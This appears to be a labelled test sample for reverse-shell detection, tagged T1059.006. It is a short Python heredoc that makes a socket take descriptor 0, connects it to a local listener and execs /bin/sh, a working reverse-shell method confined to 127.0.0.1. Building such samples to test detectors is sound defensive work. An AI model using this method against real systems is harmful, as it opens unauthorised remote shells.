# title: the socket becomes descriptor 0 as it is made
# technique: T1059.006
# expects: reverse-shell
# needs: python3
python3 - <<'P'
import os, socket
l = socket.socket(); l.bind(("127.0.0.1", 4608)); l.listen()
if os.fork() == 0:
    os.close(0); s = socket.socket(); assert s.fileno() == 0
    s.connect(("127.0.0.1", 4608)); s.set_inheritable(True)
    os.execv("/bin/sh", ["sh"])
d, _ = l.accept(); d.sendall(b"id >/dev/null\n"); d.close(); os.wait()
P
